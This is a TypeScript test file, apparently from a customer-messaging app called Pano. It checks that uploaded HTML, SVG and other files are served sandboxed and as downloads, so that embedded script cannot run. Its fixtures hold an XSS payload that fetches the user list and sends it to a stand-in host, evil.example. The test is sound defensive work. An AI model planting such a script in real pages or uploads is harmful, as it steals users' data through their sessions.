// A customer (or anyone who can get a file into a conversation) sends an HTML page and an SVG
// with script in them, hoping an agent opens the /files link and the script runs on Pano's origin
// with the agent's session. Every file Pano serves carries its own sandbox policy (no script, no
// forms, an opaque origin), is never sniffed into something else, and anything but a photo,
// sound, video or PDF is a download, not a page.
import { afterAll, beforeAll, expect, test } from "bun:test";
import { createHash } from "node:crypto";
import { startPano, type PanoProcess } from "./support/pano.ts";

let pano: PanoProcess;
let conv: string;
beforeAll(async () => {
  pano = await startPano();
  const ch = await pano.json("/api/v1/channels", { method: "POST", json: { type: "api", name: "Website", config: { callback_url: "http://127.0.0.1:9/cb", callback_secret: "bi-mat" } } });
  conv = (await pano.json(`/api/v1/channels/${ch.id}/inbound`, { method: "POST", json: { external_contact_id: "kh-1", external_message_id: "m-1", text: "Em gửi file ạ" } })).conversation_id;
});
afterAll(async () => void (await pano?.stop()));

const script = "<script>fetch('/api/v1/users').then(r=>r.text()).then(t=>new Image().src='https://evil.example/?'+t)</script>";
const FILES = [
  { name: "don-hang.html", type: "text/html", body: `<html><body>Đơn hàng${script}</body></html>`, inline: false },
  { name: "logo.svg", type: "image/svg+xml", body: `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`, inline: false },
  { name: "ghi-chu.txt", type: "text/plain", body: `<html>${script}</html>`, inline: false },
  { name: "ao.jpg", type: "image/jpeg", body: "\xff\xd8\xff\xe0 not really a jpeg", inline: true },
  { name: "bang-gia.pdf", type: "application/pdf", body: "%PDF-1.4\n%%EOF\n", inline: false },
];

const directives = (csp: string | null) =>
  Object.fromEntries((csp ?? "").split(";").map((d) => d.trim().split(/\s+/)).filter(([k]) => k).map(([k, ...v]) => [k, v.join(" ")]));

test("every served file has Pano's sandbox policy for files, nosniff, and only photos, sound and video show inline", async () => {
  const form = new FormData();
  form.set("text", "các file");
  for (const f of FILES) form.append("files", new File([f.body], f.name, { type: f.type }));
  const sent = await pano.api(`/api/v1/conversations/${conv}/messages`, { method: "POST", body: form });
  expect(sent.status).toBe(202);

  for (const f of FILES) {
    const hash = createHash("sha256").update(new TextEncoder().encode(f.body)).digest("hex");
    const res = await fetch(`${pano.url}/files/${hash}`);
    expect([f.name, res.status]).toEqual([f.name, 200]);
    const csp = directives(res.headers.get("content-security-policy"));
    expect([f.name, csp]).toEqual([f.name, { sandbox: "", "default-src": "'none'", "img-src": "'self'", "media-src": "'self'", "style-src": "'unsafe-inline'" }]);
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    const disposition = res.headers.get("content-disposition") ?? "";
    expect([f.name, disposition.split(";")[0]]).toEqual([f.name, f.inline ? "inline" : "attachment"]);
    if (!f.inline) expect([f.name, res.headers.get("content-type")]).toEqual([f.name, "application/octet-stream"]);
    expect(await res.text()).toBe(f.body);
  }
});

test("pages keep the app's own policy: the files policy is for /files only", async () => {
  const csp = directives((await fetch(`${pano.url}/login`)).headers.get("content-security-policy"));
  expect(csp["script-src"]).toBe("'self'");
  expect(csp.sandbox).toBeUndefined();
});
